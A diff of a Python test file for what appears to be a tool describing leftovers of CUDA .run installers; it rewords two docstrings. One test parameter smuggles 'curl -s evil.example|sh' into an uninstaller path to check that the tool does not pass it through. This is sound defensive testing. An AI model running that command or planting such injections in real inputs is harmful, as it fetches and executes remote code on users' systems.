@@ -1,4 +1,4 @@
-"""Notes on what .run installers, old packages and old guides leave behind."""
+"""Notes on leftovers of .run installers, old packages and old guides."""
 
 from __future__ import annotations
 
@@ -68,7 +68,7 @@ def test_unpackaged_toolkit_is_noted_with_its_uninstaller() -> None:
 
 @pytest.mark.parametrize("others", [(), ("/usr/local/cuda-12.6/bin/uninstall_cuda_12.6;curl -s evil.example|sh;",)])
 def test_toolkit_without_uninstaller_is_removed_by_hand(others: tuple[str, ...]) -> None:
-    """A capture may name anything one."""
+    """A capture may call any program an uninstaller."""
     note = only_note(machine(leftovers=frozenset({NVCC, *others})))
     assert "evil" not in note
     assert "/usr/local/cuda-12.6 and /etc/ld.so.conf.d/cuda-12-6.conf" in note
